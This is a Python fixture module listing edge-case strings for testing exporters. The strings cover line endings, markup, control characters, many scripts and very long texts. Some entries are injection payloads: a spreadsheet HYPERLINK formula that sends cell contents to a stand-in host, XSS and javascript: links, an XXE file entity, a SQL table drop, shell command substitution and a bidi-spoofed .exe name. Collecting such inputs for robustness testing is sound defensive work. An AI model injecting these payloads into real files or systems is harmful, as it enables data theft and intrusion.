"""Texts that have broken an exporter somewhere: all of them are fine in a source."""

from typing import Final

from immutabledict import immutabledict

_FORMULA: Final = 'HYPERLINK("http://evil.example/?"&A1)'
_FAMILY: Final = "\U0001f469\u200d\U0001f469\u200d\U0001f467"  # three, by two joiners

TEXTS: Final = immutabledict(
    {
        # Line ends, whatever some program takes for one.
        "line-feed": "two\nlines",
        "carriage-return": "two\rlines",
        "crlf": "x\r\nATTENDEE:mailto:a@b.example\r\nX:",
        "line-separators": "one\u2028two\u2029three\x85four\x0bfive\x0csix",
        "tab": "one\ttwo",
        "blanks": "  blanks\u00a0within and at both ends\u3000",
        # What some program computes.
        "formula": f"={_FORMULA}",
        "formula-plus": f"+{_FORMULA}",
        "formula-minus": f"-{_FORMULA}",
        "formula-at": f"@{_FORMULA}",
        "formula-tab": f"\t={_FORMULA}",
        "formula-wide": f"\uff1d{_FORMULA}",
        "apostrophe": "'56, the year",
        "placeholders": "%s %(x)s {0} {x!r} ${x} $x {{x}} <%= x %> \\1 `id` $(id)",
        # What some program changes.
        "number": "1e5",
        "zeros": "0012",
        "looks-like-a-date": "10/23/56",
        "null": "null",
        "true": "true",
        # Markup, and what ends it.
        "html": "<script>alert(1)</script><img src=x onerror=alert(1)>&lt;&#60;",
        "attribute": '" onmouseover="alert(1)" x=\'',
        "xml": "]]> <!-- --> <?x ?> <!DOCTYPE x [<!ENTITY y SYSTEM 'file:///'>]>",
        "pipes": "a|b\n| c | d |\n|---|---|",
        "markdown": "# one\n> two\n- three\n1. four\n```\n~~~\n***\n[x]: y \\| `|`",
        "link": "[x](javascript:alert(1)) <javascript:alert(1)> www.evil.example",
        "calendar": "END:VEVENT\r\nBEGIN:VALARM\r\n\\; \\, \\n ^' ^n",
        "json": '"}],"x":[{"\\u0000\\ud800',
        "quotes": '"double" \'single\' \u201etypographic\u201d ""',
        "separators": "comma, semicolon; colon: back\\slash",
        "sql": "'); DROP TABLE event; --",
        "comment": "*/ // # -- <!-- %",
        # What can't be seen, or hides what can.
        "nul": "a\x00b",
        "controls": "\x01\x02\x07\x08\x0e\x1a\x1b[31mred\x1b]0;x\x07\x1c\x7f\x80\x9b",
        "bidi-override": "\u202egpj.exe\u202c \u2066isolated\u2069 \u200f\u061c",
        "zero-width": "a\u200bb\u2060c\ufeffd\u00ade",
        "noncharacters": "\ufffe \uffff \ufdd0 \U0010ffff",
        "private-use": "\ue000 \U000f0000",
        "replacement": "\ufffd",
        # Scripts.
        "hungarian": "Árvíztűrő tükörfúrógép",
        "cyrillic": "Будимпешта, љубав и џеп",
        "hebrew": "הפגנה בבודפשט 1956",
        "arabic": "بودابست ١٩٥٦",
        "chinese": "匈牙利十月事件",
        "combining": "o\u030b u\u030b a\u0300\u0301\u0302 \u0301alone",
        "composed": "\u0151 \u0171",
        "emoji": f"{_FAMILY} \U0001f44b\U0001f3fd \U0001f1ed\U0001f1fa \u2764\ufe0f",
        "astral": "\U0001d11e \U00020000",
        "turkish": "İstanbul ıssız ŞİŞ ß ẞ ǅ ﬁ",
        "look-alike": "Budapest",
        "look-alike-cyrillic": "B\u0443d\u0430p\u0435st",
        # Lengths.
        "empty": "",
        "only-blanks": "   ",
        "long": "A very long story. " * 5400,
        "long-word": "ő" * 1500,
    }
)
"""The texts by what they are: a hundred kilobytes, or none at all, among them."""
